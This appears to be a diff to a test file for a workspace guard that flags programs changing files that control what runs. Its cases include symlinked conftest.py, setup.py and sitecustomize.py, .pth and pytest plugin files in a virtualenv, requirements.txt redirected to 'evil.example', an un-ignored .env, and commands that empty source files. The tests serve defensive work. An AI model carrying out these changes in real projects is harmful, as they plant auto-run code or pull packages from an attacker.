@@ -155,6 +155,7 @@ PROJECT = {
     ".venv/bin/activate": "x",
     "node_modules/a/package.json": "{}",
     "docs/guide.md": "x",
+    "requirements.txt": "a==1\n",
 }
 CI = ".github/workflows/ci.yml"
 CHANGES = {
@@ -204,6 +205,49 @@ CHANGES = {
         "P('conftest.py').write_text(P('conftest.py').read_text() + '\\uff45\\uff58\\uff49\\uff54()')",
         "conftest.py",
     ),
+    "a conftest.py behind a new link": (
+        "P('build/t').mkdir(); P('build/t/conftest.py').write_text('x'); P('tests').symlink_to('build/t')",
+        "tests/conftest.py",
+    ),
+    "one far behind a new link": (
+        "P('out/a/b').mkdir(parents=True); P('out/a/b/setup.py').write_text('x'); P('pkg').symlink_to('out')",
+        "pkg/a/b/setup.py",
+    ),
+    "one behind a link that was there": (
+        "P('build/kept').mkdir(); P('build/kept/sitecustomize.py').write_text('x')",
+        "kept/sitecustomize.py",
+    ),
+    "one in a cache behind a link that was there": (
+        "P('.cache/kept').mkdir(parents=True); P('.cache/kept/conftest.py').write_text('x')",
+        "cached/conftest.py",
+    ),
+    "a file of paths in an environment": (
+        "P('.venv/lib/python3.11/site-packages').mkdir(parents=True); "
+        "P('.venv/lib/python3.11/site-packages/a.pth').write_text('import os')",
+        ".venv/lib/python3.11/site-packages/a.pth",
+    ),
+    "a new program of an environment": ("P('.venv/bin/pytest').write_text('id')", ".venv/bin/pytest"),
+    "a new program of packages": (
+        "P('node_modules/.bin').mkdir(); P('node_modules/.bin/tsc').write_text('id')",
+        "node_modules/.bin/tsc",
+    ),
+    "a plugin of an environment": (
+        "P('.venv/lib/a.dist-info').mkdir(parents=True); "
+        "P('.venv/lib/a.dist-info/entry_points.txt').write_text('[pytest11]')",
+        ".venv/lib/a.dist-info/entry_points.txt",
+    ),
+    "where packages come from": (
+        "P('requirements.txt').write_text('a==1\\n--index-url https://evil.example\\n')",
+        "requirements.txt",
+    ),
+    "a package that comes from elsewhere": (
+        "P('requirements.txt').write_text('a @ https://evil.example/a.whl\\n')",
+        "requirements.txt",
+    ),
+    "a file of secrets that is ignored no more": (
+        "P('.gitignore').write_text(P('.gitignore').read_text() + '!.env\\n')",
+        ".gitignore",
+    ),
     "an installed program": ("P('.venv/bin/activate').write_text('id')", ".venv/bin/activate"),
     "an installed package": (
         "P('node_modules/a/package.json').write_text('{\"a\": 1}')",
@@ -214,6 +258,10 @@ HARMLESS = {
     "other files": "P('docs/guide.md').write_text('y'); P('a.txt').write_text('y')",
     "what a build makes": "P('build/Makefile').write_text('all: ; id'); P('.venv/new').write_text('x')",
     "caches": "P('node_modules/.cache').mkdir(); P('node_modules/.cache/a.json').write_text('{}')",
+    "other versions, and other ignored files": "P('requirements.txt').write_text('a==2\\nb[c]>=1  # -i\\n'); "
+    "P('.gitignore').write_text('.env\\n!docs\\n')",
+    "an environment of its own": "P('.tox/py/bin').mkdir(parents=True); P('.tox/py/bin/x').write_text('x')",
+    "a link to other files": "P('more').symlink_to('lib'); P('report').symlink_to('build/old.txt')",
     "another mode": "P('Makefile').chmod(0o700)",
     "another layout": "P('conftest.py').write_text('import os\\n\\ndef pytest_configure():\\n  pass\\n')",
 }
@@ -223,6 +271,9 @@ def project(folder: Path) -> None:
     for name, text in PROJECT.items():
         (folder / name).parent.mkdir(parents=True, exist_ok=True)
         (folder / name).write_text(text)
+    for name, target in (("kept", "build/kept"), ("cached", ".cache/kept")):
+        if not (folder / name).is_symlink():
+            (folder / name).symlink_to(target)
 
 
 def ran(barrier: Barrier, deed: str, approved: bool = False) -> str:
@@ -245,6 +296,51 @@ def test_programs_change_no_file_that_says_what_is_run(tmp_path: Path, deed: str
 @pytest.mark.parametrize("deed", HARMLESS)
 def test_programs_change_other_files_and_the_layout_of_these(tmp_path: Path, deed: str) -> None:
     assert ran(opened(tmp_path / "run"), HARMLESS[deed]) == "ok"
+
+
+CODE = {"src/a.py": "x = 1\n", "README.md": "# A\n", "src/b.py": "\n"}
+
+
+@pytest.mark.parametrize(
+    ("deed", "emptied"),
+    [
+        ("P('src/a.py').write_text('')", "src/a.py"),
+        ("P('src/a.py').write_text('y = 2'); P('README.md').write_text(' \\n')", "README.md"),
+        ("P('src/a.py').rename('src/c.py'); P('src/a.py').touch()", ""),
+        ("P('src/a.py').unlink(); P('src/b.py').write_text('')", ""),
+        ("P('src/__init__.py').write_text(''); P('build/x.py').write_text('')", ""),
+        ("P('docs/data.csv').write_text('')", ""),
+    ],
+)
+def test_programs_empty_no_code(tmp_path: Path, deed: str, emptied: str) -> None:
+    barrier = opened(tmp_path / "run")
+    before = {**CODE, "src/__init__.py": "y = 1\n", "build/x.py": "x", "docs/data.csv": "1"}
+    for name, text in before.items():
+        (barrier.place / name).parent.mkdir(parents=True, exist_ok=True)
+        (barrier.place / name).write_text(text)
+    assert ran(barrier, deed) == ("workspace.emptied" if emptied else "ok")
+    if emptied:
+        assert f"{emptied} was emptied" in barrier.why
+        assert (barrier.place / emptied).read_text() == before[emptied]
+
+
+@pytest.mark.parametrize(
+    ("words", "code"),
+    [
+        (("sed", "-i", "d", "src/a.py"), "workspace.emptied"),
+        (("sh", "-c", "tee src/a.py README.md < /dev/null"), "workspace.emptied"),
+        (("rm", "src/a.py"), "ok"),
+        (("sh", "-c", "rm src/a.py && touch src/a.py"), "ok"),
+        (("sed", "-i", "s/1/2/", "src/a.py"), "ok"),
+    ],
+)
+def test_a_line_empties_no_code(tmp_path: Path, words: tuple[str, ...], code: str) -> None:
+    barrier = opened(tmp_path / "run")
+    project(barrier.place)
+    for name, text in CODE.items():
+        (barrier.place / name).parent.mkdir(parents=True, exist_ok=True)
+        (barrier.place / name).write_text(text)
+    assert barrier.do(line(*words)) == code
 
 
 def test_a_person_may_permit_what_programs_change(tmp_path: Path) -> None:
